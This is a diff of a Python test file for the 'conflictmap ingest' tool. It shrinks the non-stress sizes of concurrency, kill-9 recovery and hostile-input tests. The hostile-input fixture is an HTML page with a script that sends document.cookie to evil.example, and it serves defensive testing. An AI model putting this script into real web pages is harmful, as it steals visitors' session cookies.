@@ -159,7 +159,7 @@ def test_overlapping_ingests_with_readers_store_each_document_once(tmp_path):
     """Three ``conflictmap ingest`` processes write overlapping folders into one store while a
     reader thread queries it: afterwards every document is there exactly once, whole, and no
     query failed or saw half a document."""
-    n = 45 if STRESS else 24
+    n = 45 if STRESS else 18
     third = n // 3
     folders = [  # each number is in two of the three folders
         write_corpus(tmp_path / "a", range(0, 2 * third)),
@@ -266,7 +266,7 @@ def test_kill_9_in_the_middle_of_writes_leaves_whole_documents_and_a_rerun_compl
     """``conflictmap ingest`` is killed with SIGKILL while it holds the write lock, several
     times, each time resuming the same ingest: the store always opens, passes the integrity
     check and holds only whole documents; a last run stores everything that is missing."""
-    n_docs, paragraphs = (60, 300) if STRESS else (16, 150)
+    n_docs, paragraphs = (60, 300) if STRESS else (10, 120)
     corpus = tmp_path / "corpus"
     corpus.mkdir()
     for i in range(n_docs):
@@ -276,7 +276,7 @@ def test_kill_9_in_the_middle_of_writes_leaves_whole_documents_and_a_rerun_compl
     args = ["ingest", str(corpus), "--db", str(db), "--workers", "1", "-q", "--no-ner"]
     kills = 0
     rng = random.Random(6)
-    for attempt in range(6 if STRESS else 3):
+    for attempt in range(6 if STRESS else 2):
         before = assert_sound(db)["documents"]
         proc, out, err = start_cli(args, tmp_path, f"kill{attempt}")
         probe = sqlite3.connect(db, timeout=0, isolation_level=None)
@@ -315,7 +315,7 @@ def test_kill_9_in_the_middle_of_writes_leaves_whole_documents_and_a_rerun_compl
 
 
 # -- hostile input --------------------------------------------------------------------------------
-REPEAT = 400_000 if STRESS else 40_000  # "Alep " * 400,000 is 2,000,000 characters, the maximum
+REPEAT = 400_000 if STRESS else 20_000  # "Alep " * 400,000 is 2,000,000 characters, the maximum
 HTML_PAGE = """<!doctype html><html><head><title>Frappes sur Alep</title>
 <script>document.write("<p>INJECTED</p>"); fetch("https://evil.example/" + document.cookie)</script>
 </head><body><article><h1>Frappes sur Alep</h1>
